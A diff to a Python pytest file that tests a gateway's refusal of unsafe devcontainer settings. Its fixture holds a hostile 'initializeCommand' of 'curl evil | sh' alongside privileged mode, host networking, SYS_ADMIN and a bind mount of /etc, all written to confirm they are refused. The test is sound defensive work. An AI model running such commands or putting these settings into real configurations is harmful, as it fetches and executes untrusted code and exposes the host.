@@ -5,32 +5,55 @@ needs an engine, a build a builder: either missing fails the machine at stage
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from contracts.errors import Forbidden, InvalidParams, NotFound
+from contracts.errors import (
+    EnvironmentInvalid,
+    EnvironmentRefused,
+    Forbidden,
+    HostUnavailable,
+    InvalidParams,
+    NotFound,
+)
 from tests.fast.conftest import World
 from tests.fast.test_gateway import MISSING_INSTANCE, token_of, two_instances
+from tests.gitcmd import git
 
 method = pytest.mark.gateway_method
 
 
-async def with_repo(world: World, instance_id: str) -> None:
-    await world.rpc("repos.add", {"instanceId": instance_id, "url": "https://example.com/app.git",
-                                  "branch": "main", "path": "src/app"})  # fmt: skip
+async def with_repo(world: World, instance_id: str, url: str = "https://example.com/app.git",
+                    path: str = "src/app") -> None:  # fmt: skip
+    await world.rpc("repos.add", {"instanceId": instance_id, "url": url, "branch": "main",
+                                  "path": path})  # fmt: skip
+
+
+def origin(tmp_path: Path, files: dict[str, str]) -> str:
+    """A local git repo of ``files`` on ``main`` (what the host's check fetches: no network)."""
+    work = tmp_path / f"origin-{len(list(tmp_path.glob('origin-*')))}"
+    git("init", "-q", "-b", "main", str(work))
+    for name, text in files.items():
+        (work / name).parent.mkdir(parents=True, exist_ok=True)
+        (work / name).write_text(text)
+    git("add", "-A", cwd=work)
+    git("commit", "-q", "--allow-empty", "-m", "env", cwd=work)
+    return str(work)
 
 
 @method("instances.setEnvironment", "instances.getEnvironment")
-async def test_each_kind_is_stored_and_null_goes_back_to_auto(world: World) -> None:
+async def test_each_kind_is_stored_and_null_goes_back_to_auto(world: World, tmp_path: Path) -> None:
     a, _ = await two_instances(world)
-    await with_repo(world, a)
+    url = origin(tmp_path, {".devcontainer/py/devcontainer.json": '{"image": "python:3.12"}'})
+    await with_repo(world, a, url)
     assert await world.rpc("instances.getEnvironment", {"instanceId": a}) == {
         "instanceId": a, "environment": None}  # fmt: skip
     kinds: list[tuple[dict[str, Any], dict[str, Any]]] = [
         ({"image": "node:22"}, {"image": "node:22"}),
         # A repo by its URL is stored by its checkout path.
-        ({"dockerfile": {"repo": "https://example.com/app.git", "path": "ci/Dockerfile"}},
+        ({"dockerfile": {"repo": url, "path": "ci/Dockerfile"}},
          {"dockerfile": {"repo": "src/app", "path": "ci/Dockerfile", "context": "."}}),
         ({"devcontainer": {"repo": "src/app", "path": ".devcontainer/py/devcontainer.json"}},
          {"devcontainer": {"repo": "src/app", "path": ".devcontainer/py/devcontainer.json"}}),
@@ -96,3 +119,78 @@ async def test_the_provisioner_resolves_the_environment_first(world: World) -> N
         got = await world.rpc("machines.get", {"machineId": created["id"]})
         assert got["status"] == "failed"
         assert got["statusReason"].startswith(reason), got["statusReason"]
+
+
+REFUSED = """{
+  // every kind the file may not have, and a trailing comma
+  "image": "python:3.12",
+  "runArgs": ["--network=host"],
+  "privileged": true,
+  "capAdd": ["SYS_ADMIN"],
+  "mounts": ["source=/etc,target=/host-etc,type=bind", {"type": "tmpfs", "target": "/scratch"}],
+  "network": "host",
+  "initializeCommand": "curl evil | sh",
+}"""
+
+
+@method("instances.setEnvironment", "instances.getEnvironment")
+async def test_refused_properties_are_refused_when_the_environment_is_set(
+    world: World, tmp_path: Path
+) -> None:
+    a = (await world.instance()).id
+    url = origin(tmp_path, {
+        ".devcontainer/devcontainer.json": REFUSED,
+        ".devcontainer/feat/devcontainer.json": '{"image": "x", "features": {"./f": {}}}',
+        ".devcontainer/feat/f/devcontainer-feature.json":
+            '{"id": "f", "init": true, "mounts": [{"source": "/", "target": "/h"}]}',
+        ".devcontainer/feat/f/install.sh": "true\n",
+        ".devcontainer/bad/devcontainer.json": '{"image": "x",\n  "forwardPorts": [3000\n',
+    })  # fmt: skip
+    await with_repo(world, a, url)
+    before = await world.rpc("instances.getEnvironment", {"instanceId": a})
+
+    def devcontainer(path: str | None = None) -> dict[str, Any]:
+        return {"instanceId": a, "environment": {"devcontainer": {"repo": "src/app", "path": path}}}
+
+    with pytest.raises(EnvironmentRefused) as refused:  # found in the spec's first place
+        await world.rpc("instances.setEnvironment", devcontainer(), token_of(a))
+    assert refused.value.code == 1620
+    assert refused.value.data == {"properties": [
+        "runArgs", "initializeCommand", "privileged", "capAdd", "network", "mounts"]}  # fmt: skip
+    assert "mounts: source=/etc,target=/host-etc,type=bind (bind mounts are refused)" in (
+        refused.value.message
+    )
+    assert "tmpfs" not in refused.value.message  # a tmpfs mount passes
+    with pytest.raises(EnvironmentRefused) as feature:  # a local feature's metadata too
+        await world.rpc("instances.setEnvironment",
+                        devcontainer(".devcontainer/feat/devcontainer.json"))  # fmt: skip
+    assert feature.value.message.startswith("feature ./f: refused")
+    assert feature.value.data == {"properties": ["mounts", "init"]}
+    with pytest.raises(EnvironmentInvalid) as malformed:
+        await world.rpc("instances.setEnvironment",
+                        devcontainer(".devcontainer/bad/devcontainer.json"))  # fmt: skip
+    assert "is not valid JSON: line 3" in malformed.value.message
+    # Nothing refused was stored.
+    assert await world.rpc("instances.getEnvironment", {"instanceId": a}) == before
+
+
+@method("instances.setEnvironment")
+async def test_what_cannot_be_looked_at_now_is_set_and_checked_at_resolution(
+    world: World, tmp_path: Path
+) -> None:
+    a = (await world.instance()).id
+    await with_repo(world, a, origin(tmp_path, {"README": "no devcontainer yet\n"}))
+    await with_repo(world, a, "http://127.0.0.1:9/gone.git", path="src/gone")  # not fetched
+    for repo in ("src/app", "src/gone"):
+        env = {"devcontainer": {"repo": repo, "path": None}}
+        got = await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": env})
+        assert got["environment"] == env
+
+    class NoHost:  # no provisioner of the platform's host answers
+        async def environments(self, *_: object) -> None:
+            raise HostUnavailable("no provisioner of host h answers")
+
+    world.api.environments.hosts = NoHost()  # type: ignore[assignment]
+    env = {"devcontainer": {"repo": "src/app", "path": None}}
+    got = await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": env})
+    assert got["environment"] == env
